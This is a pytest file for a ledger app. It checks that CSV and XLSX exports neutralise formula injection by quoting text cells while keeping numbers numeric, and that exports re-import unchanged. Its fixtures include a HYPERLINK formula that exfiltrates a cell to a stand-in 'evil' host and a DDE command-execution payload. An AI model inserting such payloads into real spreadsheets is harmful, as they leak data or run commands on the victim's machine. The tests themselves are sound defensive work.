"""Exports never write a live formula (DESIGN §7.1), and an export imports back unchanged.

Text starting with `=`, `+`, `-`, `@`, tab or CR is written as text: CSV with a
leading `'`, XLSX as a string cell. Numbers stay numbers. Import strips the `'`.
"""
from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from engine.db import get_db
from engine.runtime.transfer import formulas
from engine.storage.install import install_app
from tests.api.conftest import ApiClient, make_user
from tests.transfer.conftest import upload

LEDGER = Path(__file__).parent / "formula_app.json"
ENTRIES = "/apps/ledger/forms/entry/records"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
NOTES = [EVIL, "+1", "-x", "@me", "'plain", "'=already quoted", "plain"]
MEMOS = ["\tleading tab", "\rcarriage return first", "=1+2\nsecond line", None, "ok", "-", "@"]


@pytest.fixture
def ledger(client, app):
    install_app(get_db(app), LEDGER)
    api = ApiClient(client, make_user(app, "admin", admin=True))
    evil_customer = api.post("/apps/ledger/forms/customer/records", json={"name": "=evil()"}).get_json()
    plain_customer = api.post("/apps/ledger/forms/customer/records", json={"name": "Acme"}).get_json()
    for index, (note, memo) in enumerate(zip(NOTES, MEMOS)):
        body = {"code": "=cmd|' /C calc'!A0" if index == 0 else f"E{index}", "note": note, "memo": memo,
                "amount": f"-{index}.5", "count": -index, "kind": "-credit" if index % 2 else "debit",
                "tags": ["+a", "b"] if index % 2 else ["b"],
                "customer": (evil_customer if index % 2 else plain_customer)["id"],
                "lines": [{"text": "-line", "qty": -1}, {"text": "@x", "qty": 2}] if index < 3 else []}
        response = api.post(ENTRIES, json=body)
        assert response.status_code == 201, response.get_json()
    return api


def _csv(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_live_csv_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in TRIGGERS or _is_number(cell), cell


def _xlsx_cells(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml      # not one formula in the file
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[cell for cell in row] for row in sheet.iter_rows()]


def _assert_xlsx_text_is_text(rows) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
            elif cell.value is not None:
                assert cell.data_type == "n" and isinstance(cell.value, (int, float)), cell.value


def test_csv_export_quotes_formula_text_and_keeps_numbers(ledger):
    rows = _csv(ledger.get(ENTRIES + "/export?format=csv&sort=id&subform=lines"))
    header = rows[0]
    assert "'@Note (note)" in header
    _assert_no_live_csv_cell(rows)
    by_code = {row[header.index("code (code)")]: row for row in rows[1:]}
    first = by_code["'=cmd|' /C calc'!A0"]
    assert first[header.index("'@Note (note)")] == "'" + EVIL
    assert first[header.index("customer (customer)")] == "Acme"
    second = by_code["E1"]
    assert second[header.index("customer (customer)")] == "'=evil()"        # a link title
    assert second[header.index("kind (kind)")] == "'-credit"                # a select value
    assert second[header.index("tags (tags)")] == "'+a; b"                  # a multiselect
    assert second[header.index("amount (amount)")] == "-1.5"                # a negative number stays one
    assert second[header.index("count (count)")] == "-1"
    assert second[header.index("memo (memo)")] == "'\rcarriage return first"
    assert by_code["E4"][header.index("'@Note (note)")] == "'plain"         # no formula: as it is
    assert by_code["E5"][header.index("'@Note (note)")] == "''=already quoted"
    sub_text = header.index("lines › text (lines.text)")
    assert [r[sub_text] for r in rows[1:] if r[sub_text]][:2] == ["'-line", "'@x"]   # subform rows


def test_xlsx_export_writes_string_cells_never_formulas(ledger):
    response = ledger.get(ENTRIES + "/export?format=xlsx&sort=id&subform=lines")
    assert response.status_code == 200
    rows = _xlsx_cells(response.get_data())
    _assert_xlsx_text_is_text(rows)
    values = [[cell.value for cell in row] for row in rows]
    header = values[0]
    assert "@Note (note)" in header
    first = values[1]
    assert first[header.index("@Note (note)")] == EVIL                     # the text itself, as text
    assert first[header.index("code (code)")] == "=cmd|' /C calc'!A0"
    assert first[header.index("amount (amount)")] == -0.5
    assert first[header.index("count (count)")] == 0
    notes = [row[header.index("@Note (note)")] for row in values[1:]]
    assert "''=already quoted" in notes and "'plain" in notes
    assert {row[header.index("lines › qty (lines.qty)")] for row in values[1:4]} == {-1, 2}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_imports_back_with_every_row_unchanged(ledger, fmt):
    before = _records(ledger)
    versions = _history_lengths(ledger, before)
    exported = ledger.get(f"{ENTRIES}/export?format={fmt}&sort=id").get_data()
    response = upload(ledger, ENTRIES, exported, filename=f"entries.{fmt}")
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert (body["created"], body["updated"], body["errors"]) == (0, 0, [])
    assert body["unchanged"] == len(NOTES)
    assert _records(ledger) == before
    assert _history_lengths(ledger, before) == versions                   # no new change-log entries


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_subform_rows_import_back_with_every_value(ledger, fmt):
    """One row per subform row: every value comes back as exported (an update
    that names subform rows rewrites them, so it counts as updated)."""
    before = _records(ledger)
    exported = ledger.get(f"{ENTRIES}/export?format={fmt}&sort=id&subform=lines").get_data()
    response = upload(ledger, ENTRIES, exported, filename=f"entries.{fmt}")
    assert response.status_code == 200 and response.get_json()["errors"] == [], response.get_json()
    assert [_values(r) for r in _records(ledger)] == [_values(r) for r in before]


def _values(record: dict) -> dict:
    values = {k: v for k, v in record.items() if k not in ("version", "updated_at", "lines")}
    values["lines"] = [{k: v for k, v in line.items() if k != "id"} for line in record["lines"]]
    return values


def test_report_exports_quote_text_and_keep_numbers(ledger):
    rows = _csv(ledger.get("/apps/ledger/reports/by_note/export?format=csv"))
    _assert_no_live_csv_cell(rows)
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + EVIL in cells and "'=evil()" in cells and "'-x" in cells
    assert any(cell.startswith("-") and _is_number(cell) for cell in cells)   # negative sums
    response = ledger.get("/apps/ledger/reports/by_note/export?format=xlsx")
    xlsx = _xlsx_cells(response.get_data())
    _assert_xlsx_text_is_text(xlsx)
    values = {cell.value for row in xlsx[1:] for cell in row}
    assert EVIL in values and "=evil()" in values
    assert any(isinstance(v, (int, float)) and v < 0 for v in values)


def _records(api) -> list[dict]:
    items = api.get(ENTRIES + "?limit=100&sort=id").get_json()["items"]
    return [api.get(f"{ENTRIES}/{item['id']}").get_json() for item in items]


def _history_lengths(api, records) -> list[int]:
    return [len(api.get(f"{ENTRIES}/{r['id']}/history").get_json()["items"]) for r in records]


# ------------------------------------------------------------ the rule itself
@given(st.text())
def test_every_text_survives_the_csv_and_xlsx_rules(text):
    assert formulas.unquote(formulas.csv_text(text)) == text
    assert formulas.unquote(formulas.xlsx_read(formulas.xlsx_text(text))) == text
    assert not formulas.is_live(formulas.csv_text(text))


@pytest.mark.parametrize("cell,read", [
    ("'=1+2", "=1+2"), ("'+1", "+1"), ("'-x", "-x"), ("'@me", "@me"), ("'\tx", "\tx"), ("'\rx", "\rx"),
    ("'plain", "'plain"), ("'", "'"), ("''=x", "'=x"), ("=1+2", "=1+2"), ("-5", "-5"), (-5, -5), (None, None),
])
def test_import_strips_a_quote_only_before_a_formula_character(cell, read):
    assert formulas.unquote(cell) == read
